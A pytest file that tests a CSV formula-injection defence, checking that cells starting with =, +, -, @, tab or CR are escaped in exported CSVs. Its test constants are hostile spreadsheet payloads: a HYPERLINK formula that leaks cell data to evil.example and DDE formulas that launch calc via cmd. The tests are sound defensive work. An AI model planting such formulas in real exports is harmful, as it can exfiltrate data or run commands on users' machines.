"""CSV formula neutralisation (analysis/csvsafe.py) in every CSV we write: a text cell starting
with `=`, `+`, `-` (unless a number), `@`, tab or CR gets a `'` in front. Unit cases, then hostile
activity, resource and case names through a real run into anomalies.csv and the enriched CSV."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from analysis.columns import ACTIVITY, CASE, RESOURCE, TIMESTAMP
from analysis.csvsafe import neutralise, neutralise_cell
from analysis.runs import DataEnrichmentRun, ProcessMiningRun
from tests.synthetic_logs import generate_log

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CMD = "=cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+1"
NUMBER = "-2"
DASH = "-x"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (CMD, "'" + CMD),
        (SUM, "'" + SUM),
        (PLUS, "'+1+1"),
        (NUMBER, "-2"),
        ("-0.5", "-0.5"),
        ("-1e3", "-1e3"),
        (DASH, "'-x"),
        ("-", "'-"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain = text", "plain = text"),
        ("", ""),
    ],
)
def test_cells(cell: str, written: str) -> None:
    assert neutralise_cell(cell) == written
    frame = pd.DataFrame({"a": [cell, "ok"], "n": [-3, 4]})
    out = neutralise(frame)
    assert out["a"].tolist() == [written, "ok"] and out["n"].tolist() == [-3, 4]
    assert frame["a"].tolist() == [cell, "ok"]  # the caller's frame is not changed


def test_categories_missing_values_and_names() -> None:
    frame = pd.DataFrame(
        {
            "=name": pd.Categorical([CMD, "b", CMD]),
            "o": [None, "@x", 1.5],
            "s": pd.Series(["-1", pd.NA, "+y"], dtype="string"),
        }
    )
    out = neutralise(frame)
    assert list(out.columns) == ["'=name", "o", "s"]
    assert out["'=name"].tolist() == ["'" + CMD, "b", "'" + CMD]
    assert pd.isna(out["o"][0]) and out["o"][1] == "'@x" and out["o"][2] == 1.5
    assert out["s"][0] == "-1" and pd.isna(out["s"][1]) and out["s"][2] == "'+y"
    plain = pd.DataFrame({"a": ["x"], "n": [1]})
    assert neutralise(plain) is plain


def hostile_log(path: Path) -> Path:
    """A synthetic log whose names are formulas: activities, resources and case ids."""
    events = generate_log(240, anomaly_share=0.1, seed=16).events
    names = {"Receive order": HYPERLINK, "Check stock": CMD, "Ship order": SUM, "Close order": PLUS}
    events[ACTIVITY] = events[ACTIVITY].replace(names)
    events[RESOURCE] = events[RESOURCE].replace({"clerk1": NUMBER, "clerk2": DASH})
    events[CASE] = "=" + events[CASE].astype(str) + "+1"
    frame = events[[CASE, ACTIVITY, TIMESTAMP, RESOURCE]].rename(
        columns={CASE: "case", ACTIVITY: "activity", TIMESTAMP: "timestamp", RESOURCE: "resource"}
    )
    frame.to_csv(path, index=False)
    return path


def cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def assert_neutral(values: list[str]) -> None:
    for value in values:
        if value.startswith(("=", "+", "@", "\t", "\r")):
            pytest.fail(f"formula cell written: {value!r}")
        if value.startswith("-"):
            float(value)  # only numbers may start with "-"


def test_hostile_names_are_neutral_in_anomalies_and_enriched_csv(tmp_path: Path) -> None:
    source = hostile_log(tmp_path / "hostile.csv")
    enriched = DataEnrichmentRun(source, tmp_path / "enrich", {}).run_all()
    (artifact,) = [a for a in enriched["artifacts"] if a["format"] == "CSV"]
    written = cells(tmp_path / "enrich" / artifact["path"])
    assert_neutral(written)
    for name in (HYPERLINK, CMD, SUM, PLUS, DASH):
        assert "'" + name in written, name
    assert NUMBER in written and "'" + NUMBER not in written  # a number stays a number

    params = {"analysisType": "standard", "outputOptions": {"exportFormats": ["CSV"]}}
    doc = ProcessMiningRun(source, tmp_path / "mine", params).run_all()
    assert doc["summary"]["anomaliesDetected"] > 0
    table = cells(tmp_path / "mine" / "anomalies.csv")
    assert_neutral(table)
    assert any(c.startswith("'=case-") for c in table)
